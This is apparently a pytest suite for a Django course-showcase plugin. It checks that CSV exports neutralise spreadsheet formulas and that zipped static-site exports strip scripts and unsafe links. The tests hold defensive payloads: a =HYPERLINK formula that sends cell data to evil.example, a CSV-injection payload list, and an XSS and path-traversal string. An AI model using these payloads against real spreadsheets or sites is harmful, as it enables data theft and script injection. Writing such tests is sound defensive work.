"""Files to take along: tables no spreadsheet runs, and web sites that open without us."""

from __future__ import annotations

import csv
import io
import re
from zipfile import ZipFile

import pytest
from django.test import Client

from plugin_app.cells import unguarded
from plugin_app.showcase import api
from plugin_app.showcase.api import Words
from plugin_app.showcase.models import Project
from tests.security.markup import ELEMENTS, NEVER, SAFE_ADDRESS, read
from tests.showcase.pictures.drawings import read as as_picture
from tests.showcase.reach.situations import a_project_with_a_picture, signed_in
from tests.showcase.situations import NOON, a_draft, a_new_version, a_published_project, a_word
from tests.world import COURSE, OTHER_COURSE, a_learner, an_organiser, showcase, study_groups

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_storage")]

FORMULA = '=HYPERLINK("https://evil.example?"&A1,"see")'


@pytest.fixture
def amina():
    return a_learner("Amina")


@pytest.fixture
def placed():
    return showcase(
        pictures=True, questions=[{"key": "q1", "words": "=Which tool?", "kind": "line", "is_required": False}]
    )


def of_block(placed, what, who=None):
    return signed_in(who or an_organiser()).get(f"/community/block/{placed.usage_key}/{what}")


def table(response):
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


class TestTables:
    def test_projects(self, amina, placed):
        project = a_published_project(
            amina, placed, tags=("D3", "papel"), licence="MIT", language="fr", answers={"q1": "A loom"}
        )
        a_word(a_learner("Bo"), placed, project)
        a_draft(amina, placed, "Hush")
        [row] = table(of_block(placed, "projects.csv"))
        assert (row["Project"], row["Owners"], row["Usernames"], row["Version"]) == (
            "Tide tables",
            "Amina",
            "amina",
            "1",
        )
        assert (row["Built with"], row["Licence"], row["Language"], row["Feedback"]) == ("D3, papel", "MIT", "fr", "1")
        assert (row["This version (UTC)"], row["State"], row["Id"]) == (
            "2026-03-02 12:00",
            "published",
            str(project.uuid),
        )
        assert row["'=Which tool?"] == "A loom"

    def test_feedback(self, amina, placed):
        project = a_published_project(amina, placed)
        bo = a_learner("Bo")
        api.give_feedback(bo, placed, project.uuid, Words(like="The map", question="Why?"), now=NOON)
        [row] = table(of_block(placed, "feedback.csv"))
        assert (row["Reader"], row["Username"], row["Likes"], row["Asks"]) == ("Bo", "bo", "The map", "Why?")

    def test_marks_stand_under_the_criterion_they_were_given_for(self, amina):
        words = {"clear": "=Clear?", "brave": "Brave; =1+1"}
        asked = {key: {"key": key, "words": text, "levels": ["No", "Half", "@Yes"]} for key, text in words.items()}
        before = showcase(rubric=list(asked.values()))
        project, bo = a_published_project(amina, before), a_learner("Bo")
        api.give_feedback(bo, before, project.uuid, Words(like="x"), marks={"clear": 2, "brave": 1}, now=NOON)
        [row] = table(of_block(before, "feedback.csv"))
        assert list(row)[-3:] == ["Id", "Rubric: =Clear?", "Rubric: Brave; '=1+1"]
        assert [row[name] for name in list(row)[-2:]] == ["'@Yes", "Half"]

        shorter = {**asked["clear"], "words": "Clear to you?", "levels": ["No", "Yes", "Very"]}
        kind = {"key": "kind", "words": "Kind", "levels": ["No", "Half", "Yes"]}
        now = showcase(rubric=[kind, shorter])
        a_new_version(amina, now, project, "Again")
        api.give_feedback(bo, now, project.uuid, Words(like="y"), marks={"kind": 0}, now=NOON)
        rows = table(of_block(now, "feedback.csv"))
        heads = ["Rubric: Kind", "Rubric: Clear to you?", "Rubric, no longer asked: brave"]
        assert list(rows[0])[-3:] == heads
        assert [[row[head] for head in heads] for row in rows] == [["", "Very", "Level 2"], ["No", "", ""]]

    def test_criteria_keep_their_columns_apart(self, amina):
        twins = [{"key": key, "words": "Reader", "levels": ["No", "Half", "Yes"]} for key in ("one", "two")]
        placed = showcase(rubric=twins)
        project = a_published_project(amina, placed)
        api.give_feedback(a_learner("Bo"), placed, project.uuid, Words(like="x"), marks={"one": 0, "two": 2}, now=NOON)
        [row] = table(of_block(placed, "feedback.csv"))
        assert (row["Reader"], row["Rubric: Reader (one)"], row["Rubric: Reader (two)"]) == ("Bo", "No", "Yes")

    def test_words_that_were_taken_away_are_not_in_it(self, amina, placed):
        project = a_published_project(amina, placed)
        bo = a_learner("Bo")
        a_word(bo, placed, project)
        [said] = api.get(bo, placed, project.uuid).current.feedback
        api.withdraw_feedback(bo, placed, said.uuid)
        assert table(of_block(placed, "feedback.csv")) == []
        assert table(of_block(placed, "projects.csv"))[0]["Feedback"] == "0"

    @pytest.mark.parametrize("state", ["unpublished", "deleted", "draft"])
    def test_what_was_put_away_is_not_in_it(self, amina, placed, state):
        a_word(a_learner("Bo"), placed, a_published_project(amina, placed))
        Project.objects.update(state=state)
        assert table(of_block(placed, "projects.csv")) == table(of_block(placed, "feedback.csv")) == []

    def test_no_cell_is_a_formula(self, shared_data, placed):
        eve = a_learner(FORMULA)
        attacks = [
            line for line in (shared_data / "payloads/csv-injection.txt").read_text().splitlines() if line.strip()
        ]
        for number, attack in enumerate([FORMULA, *attacks[:20]]):
            project = a_published_project(
                eve, placed, attack[:150].strip(), tags=(attack[:40],), licence=attack[:40], answers={"q1": attack}
            )
            words = Words(like=attack, wish="\t" + attack, what_if="@x", question="x;=1+1")
            api.give_feedback(a_learner(f"Bo {number}"), placed, project.uuid, words, now=NOON)
        for what in ("projects.csv", "feedback.csv"):
            rows = table(of_block(placed, what))
            assert len(rows) > 5
            for cell in (cell for row in rows for cell in row.values()):
                assert not re.match(r"\s*[=+\-@\t\r＝＋－＠]", cell), cell
                assert not re.search(r"[,;|\t\"\r\n]\s*[=+\-@]", cell), cell
        assert unguarded(rows[0]["Likes"]) == FORMULA

    def test_queries_do_not_grow(self, amina, placed, django_assert_num_queries):
        olga = an_organiser()

        def both():
            api.projects_csv(olga, placed)
            api.feedback_csv(olga, placed)

        a_word(a_learner("Bo"), placed, a_published_project(amina, placed))
        with django_assert_num_queries(7):
            both()
        for number in range(9):
            a_word(a_learner("Bo"), placed, a_published_project(a_learner(f"Maker {number}"), placed))
        with django_assert_num_queries(7):
            both()


def site(response) -> dict[str, bytes]:
    assert response.headers["Content-Type"] == "application/zip"
    assert response.headers["Content-Disposition"].startswith("attachment")
    with ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def pages(files):
    return {name: content.decode() for name, content in files.items() if name.endswith(".html")}


class TestSites:
    def test_of_ones_own_work_in_all_courses(self, amina, placed):
        _project, figure = a_project_with_a_picture(amina, placed, tags=("D3",), licence="MIT")
        cooking = a_learner("Amina", OTHER_COURSE)
        bread = a_published_project(cooking, showcase(OTHER_COURSE), "Bread", at=NOON)
        api.unpublish(cooking, showcase(OTHER_COURSE), bread.uuid)
        a_draft(amina, placed, "Hush")
        a_published_project(a_learner("Bo"), placed, "Of Bo")
        files = site(signed_in(amina).get("/community/me/portfolio.zip"))
        html = pages(files)
        assert {"index.html", "projects/1.html", "projects/2.html", "community.css", "pictures.css"} <= set(files)
        assert "Bread" in html["index.html"]
        assert "Tide tables" in html["index.html"]
        whole = "".join(html.values())
        assert not any(secret in whole for secret in ("Hush", "Of Bo", COURSE, "Cooking"))
        picture = files[f"pictures/{figure.picture}.webp"]
        assert as_picture(picture).size == (1280, 640)
        assert f'src="../pictures/{figure.picture}.webp"' in whole
        assert 'alt="A chart of the tides"' in whole

    def test_of_a_block_for_its_team(self, amina, placed):
        _project, figure = a_project_with_a_picture(amina, placed)
        put_away = a_published_project(amina, placed, "Hush")
        api.unpublish(amina, placed, put_away.uuid)
        files = site(of_block(placed, "showcase.zip"))
        assert set(pages(files)) == {"index.html", "projects/1.html"}
        assert "Hush" not in str(pages(files))
        assert as_picture(files[f"pictures/{figure.picture}.webp"]).size == (480, 240)

    def test_is_words_and_pictures_alone_whatever_was_written(self, amina, placed):
        hostile = '"><img src=//evil.example onerror=alert(1)><script>alert(2)</script>../../etc/passwd\\..\\x'
        a_published_project(amina, placed, hostile, write_up=hostile, tags=(hostile[:40],), licence=hostile[:40])
        files = site(of_block(placed, "showcase.zip"))
        assert all(re.fullmatch(r"[a-z]+\.(html|css)|projects/\d+\.html", name) for name in files)
        for html in pages(files).values():
            for tag, attributes in read(html).elements:
                assert tag in ELEMENTS - {"script", "form", "iframe"}
                assert not [name for name in attributes if name.startswith("on") or name in NEVER]
                for name in {"href", "src"} & set(attributes):
                    ours = re.fullmatch(
                        r"(\.\./)?(index\.html|(community|pictures)\.css|projects/\d+\.html)", attributes[name]
                    )
                    assert ours or SAFE_ADDRESS.fullmatch(attributes[name])
            assert "default-src 'none'" in html

    def test_pictures_stop_where_the_file_would_be_too_large(self, amina, placed, monkeypatch):
        monkeypatch.setattr("plugin_app.showcase.reach.static_site.MOST_PICTURE_BYTES", 0)
        a_project_with_a_picture(amina, placed)
        files = site(of_block(placed, "showcase.zip"))
        assert not [name for name in files if name.startswith("pictures/")]
        assert "<img" not in files["projects/1.html"].decode()


@pytest.mark.parametrize("what", ["projects.csv", "feedback.csv", "showcase.zip"])
@pytest.mark.parametrize(
    ("who", "status"),
    [
        (lambda: signed_in(a_learner("Amina")), 403),
        (lambda: signed_in(a_learner("Oscar", OTHER_COURSE)), 403),
        (lambda: signed_in(an_organiser("Otto", OTHER_COURSE)), 403),
        (Client, 401),
    ],
)
def test_files_of_a_block_are_for_its_team(amina, placed, what, who, status):
    a_published_project(amina, placed)
    assert who().get(f"/community/block/{placed.usage_key}/{what}").status_code == status


@pytest.mark.parametrize("what", ["projects.csv", "feedback.csv", "showcase.zip"])
def test_another_kind_of_block_has_none(what):
    assert of_block(study_groups(), what).status_code == 404


def test_ones_own_work_is_for_somebody():
    assert Client().get("/community/me/portfolio.zip").status_code == 401
